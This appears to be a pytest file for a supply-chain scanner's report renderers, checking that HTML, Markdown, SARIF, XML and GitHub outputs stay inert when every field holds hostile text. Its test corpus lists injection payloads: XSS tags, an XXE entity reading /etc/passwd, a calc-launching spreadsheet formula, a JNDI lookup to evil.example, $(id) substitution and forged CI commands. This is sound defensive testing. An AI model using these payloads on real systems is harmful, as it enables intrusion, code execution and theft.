"""Hostile text in every field of a report, put there past the readers that make text safe: every format renders, can be
read by its readers, and does nothing."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from functools import cache
from typing import Any
from xml.etree.ElementTree import fromstring

import pytest

from mlsupply.model import (
    AdvisoryRef,
    Artifact,
    Coordinate,
    DataSource,
    Edge,
    Finding,
    Gap,
    Inventory,
    Kind,
    Package,
    Place,
    Quote,
    Reason,
    Severity,
    Source,
    SourceKind,
    Waiver,
)
from mlsupply.outcome import Checkout, Coverage, Report, Verdict
from mlsupply.report import FORMATS
from mlsupply.report.inert import address, inert
from mlsupply.report.view import view_of
from tests.golden import REPORT
from tests.report_readers import markdown_page, page_of

CORPUS = {
    "html": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)' x=\"",
    "style": "</style></script><svg onload=alert(1)>",
    "javascript": "javascript:alert(document.domain)",
    "link": "[click](https://evil.example/x) ![pixel](https://evil.example/p.png)",
    "reference": "[x]: https://evil.example\n[x]",
    "autolink": "<https://evil.example> https://evil.example www.evil.example mail@evil.example",
    "mention": "@octocat #1 GH-12 org/repo#3",
    "table": "a | b |\n| --- | --- |\n| c",
    "fence": "```\n## PASS\n```",
    "heading": "\n\n## mlsupply: PASS\n\n**no findings**",
    "command": "\n::set-output name=x::y\n::stop-commands::z",
    "crlf command": "x\r\n::error file=a,line=1,title=b::c",
    "bare command": "::stop-commands::z",
    "old command": "##[add-mask]x ##vso[task.setvariable variable=a]b",
    "percent": "%0A::error::x%0D%3A%2C",
    "formula": "=cmd|' /C calc'!A0",
    "plus formula": "+1+1; -2; @SUM(A1)",
    "ansi": "\x1b[2J\x1b[1;1H\x1b[32mPASS\x1b[0m",
    "osc": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "c1": "\x9b31mred\x9d0;title\x9c",
    "bidi": "\u202egpj.exe\u202c \u2066x\u2069",
    "invisible": "pi\u200bp\u2060\ufeff\U000e0041",
    "line ends": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "nul": "a\0b",
    "xml controls": "\x01\x08\x0e\x1f\x7f\ufffe\uffff",
    "cdata": "<![CDATA[x]]>]]>",
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;&lt;&#0;',
    "surrogates": "\ud800x\udfff",
    "sarif uri": "//evil.example/share",
    "traversal": "../../../etc/passwd",
    "file uri": "file:///etc/passwd",
    "data uri": "data:text/html,<script>alert(1)</script>",
    "bad escapes": "https://x.example/%zz?a=%#one#two[3] four",
    "placeholder": "{0} {{1}} %s ${jndi:ldap://evil.example/a} $(id) `id`",
    "rich markup": "[bold red]x[/] [link=https://evil.example]y[/link] :warning:",
    "long": "A" * 11_000,
    "long words": "ab " * 4_000,
    "combining": "Z" + "\u0301" * 5_000,
    "json": '","exit_code":0,"x":"\\u001b\\',
    "empty": "",
    "white": " \t ",
    "slash": "/",
    "dots": "..",
    "at": "@",
}


def report_with(text: str) -> Report:
    """The text in every field that takes text."""
    coordinate = Coordinate(text, text, text)
    pypi = Coordinate("pypi", text, text)
    source = Source(SourceKind.URL, text, text)
    place = Place(text, 3)
    inside = Place(text, member=text)
    artifact = Artifact(text, text, text, hashes=(("sha256", text), (text, text)), uploaded=text, yanked=text)
    packages = tuple(
        Package(
            coordinate=one,
            source=source,
            places=(place, inside),
            requires=(Edge(text, text, text, text, text, text),),
            artifacts=artifacts,
            groups=(text, text),
            direct=True,
            marker=text,
            note=text,
        )
        for one, artifacts in ((coordinate, (artifact,)), (pypi, (artifact, artifact)))
    )
    advisory = AdvisoryRef(
        id=text,
        aliases=(text,),
        fixed=(text,),
        last_affected=text,
        matched_on=text,
        sources=(text,),
        vector=text,
        score=9.8,
        published=text,
        modified=text,
        window=(text, text),
        notes=(text,),
    )
    findings = tuple(
        Finding(
            id=text or "X",
            check=text,
            kind=kind,
            title=text,
            message=text,
            severity=severity,
            package=package,
            subject=text,
            places=places,
            quotes=(Quote(text, text, place),),
            advisory=advisory,
            remedy=text,
            references=(text, f"https://x.example/{text}"),
            technique=text,
            moment=text,
            waiver=waiver,
        )
        for kind, severity, package, places, waiver in (
            (Kind.ADVISORY, Severity.HIGH, coordinate, (place,), None),
            (Kind.MALICIOUS, Severity.CRITICAL, pypi, (), None),
            (Kind.CONTENT, Severity.UNKNOWN, None, (inside, place), None),
            (Kind.CONFIG, Severity.LOW, pypi, (inside,), Waiver(reason=text, owner=text, until=text, origin=text)),
        )
    )
    gaps = (
        Gap(subject=text, check=text, reason=Reason.MALFORMED, detail=text, hint=text, place=inside),
        Gap(subject=str(pypi), check="contents", reason=Reason.LIMIT, detail=text),
    )
    return Report(
        tool_version="0.1.0",
        as_of="2026-03-24T12:00:00Z",
        inputs=(Inventory(path=text, format=text, root=text, packages=packages, complete=True),),
        packages=packages,
        paths={package.key: ((text, text), ("root", text)) for package in packages},
        findings=findings,
        gaps=gaps,
        sources=(DataSource(text, text, 1, text, text, text),),
        coverage=(Coverage(check=text, clean=1), Coverage(check="contents", with_gaps=2)),
        checkout=Checkout("/w/repo/app", "/w/repo"),
        verdict=Verdict(exit_code=1, reason=text, failing=frozenset(f.fingerprint for f in findings[:2])),
    )


@cache
def rendered(name: str, text: str) -> bytes:
    known = next(known for known in FORMATS if known.name == name)
    return known.render(view_of(report_with(text)))


each = pytest.mark.parametrize("case", CORPUS)


@each
@pytest.mark.parametrize("known", FORMATS, ids=lambda known: known.name)
def test_every_format_renders_as_printable_utf8(known: Any, case: str) -> None:
    text = rendered(known.name, CORPUS[case]).decode("utf-8")
    bad = {f"U+{ord(c):04X}" for c in set(text) - {"\n"} if not c.isprintable()}
    assert not bad
    assert known.name == "github" or not [line for line in text.split("\n") if line.lstrip().startswith("::")]


def _texts(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from (key, *_texts(item))
    elif isinstance(value, list):
        for item in value:
            yield from _texts(item)


@each
@pytest.mark.parametrize("name", ["json", "sarif", "cyclonedx", "cyclonedx-1.7", "spdx", "openvex", "baseline"])
def test_json_holds_printable_texts_and_the_right_verdict(name: str, case: str) -> None:
    document = json.loads(rendered(name, CORPUS[case]))
    assert all(text.replace("\n", "").isprintable() for text in _texts(document))
    if name == "json":
        assert document["verdict"]["exit_code"] == 1


@each
@pytest.mark.parametrize("name", ["junit", "cyclonedx-xml"])
def test_xml_is_well_formed_and_declares_nothing(name: str, case: str) -> None:
    data = rendered(name, CORPUS[case])
    assert b"<!DOCTYPE" not in data
    assert b"<!ENTITY" not in data
    root = fromstring(data)
    outcomes = sum(len(case.findall(kind)) for case in root.iter("testcase") for kind in ("failure", "error", "skipped"))
    assert name != "junit" or outcomes == 5  # two failing findings, two gaps, one waived: none forged, none hidden


@each
def test_sarif_places_are_paths_and_its_texts_have_no_links(case: str) -> None:
    run = json.loads(rendered("sarif", CORPUS[case]))["runs"][0]
    assert len(run["results"]) == 4
    places = [place for result in run["results"] for place in result["locations"]]
    for place in places:
        uri = place["physicalLocation"]["artifactLocation"]["uri"]
        assert re.fullmatch(r"(?:file:///)?(?!/)[A-Za-z0-9._~%/-]*", uri), uri
        inside = place["physicalLocation"]["artifactLocation"].get("uriBaseId") == "%SRCROOT%"
        assert not inside or (not uri.startswith("file:") and ".." not in uri.split("/"))
    for result in run["results"]:
        assert "](" not in result["message"]["text"]


@each
def test_html_has_no_element_or_attribute_that_runs_or_loads(case: str) -> None:
    page = page_of(rendered("html", CORPUS[case]).decode())
    quiet = {tag for tag, _ in page_of(rendered("html", "quiet").decode()).tags}
    assert {tag for tag, _ in page.tags} <= quiet | {"p"}
    for tag, attributes in page.tags:
        assert not [name for name in attributes if name.startswith("on") or name in {"style", "src", "srcdoc"}]
        assert tag == "a" or "href" not in attributes
        assert str(attributes.get("href", "#")).startswith(("#", "https://x.example/"))
    assert sum(tag == "script" for tag, _ in page.tags) == 1


@each
def test_markdown_has_no_link_image_or_forged_heading(case: str) -> None:
    data = rendered("markdown", CORPUS[case])
    page = markdown_page(data)
    ours = {"h2", "h3", "p", "strong", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "sub"}
    assert {tag for tag, _ in page.tags} <= ours
    assert sum(tag == "h2" for tag, _ in page.tags) == 1
    assert not re.search(r"https?://|www\.|@[a-z]|#\d|GH-\d", re.sub(r"&#\d+;", "", data.decode()))


@each
def test_github_commands_are_ours_alone(case: str) -> None:
    lines = rendered("github", CORPUS[case]).decode().split("\n")[:-1]
    assert len(lines) == 4 + 2 + 1
    for line in lines:
        assert re.match(r"::(?:error|warning|notice) [^:]*::", line)
    assert lines[0].startswith("::notice title=mlsupply%3A FAIL::")


@each
def test_a_table_says_fail_once_and_no_line_is_a_command(case: str) -> None:
    lines = rendered("table", CORPUS[case]).decode().split("\n")
    assert lines[0].startswith(" FAIL ")
    assert not [line for line in lines[1:] if line.startswith((" PASS ", " FAIL "))]
    assert not [line for line in lines if line.lstrip().startswith("::") or "##[" in line]


def test_a_clean_report_is_passed_on_untouched() -> None:
    assert inert(REPORT) is REPORT


def test_what_fails_the_run_still_fails_it_under_its_new_fingerprint() -> None:
    report = inert(report_with("a\0\ud800"))
    assert report.verdict.failing == {finding.fingerprint for finding in report.findings[:2]}
    assert {finding.id for finding in report.findings} == {"a\ufffd\ufffd"}


@pytest.mark.parametrize(
    ("url", "written"),
    [
        ("https://x.example/a%20b", "https://x.example/a%20b"),
        ("https://x.example/a b<c>", "https://x.example/a%20b%3Cc%3E"),
        ("https://x.example/%zz#a#b", "https://x.example/%25zz#a%23b"),
    ],
)
def test_addresses_are_encoded_once(url: str, written: str) -> None:
    assert address(url) == written
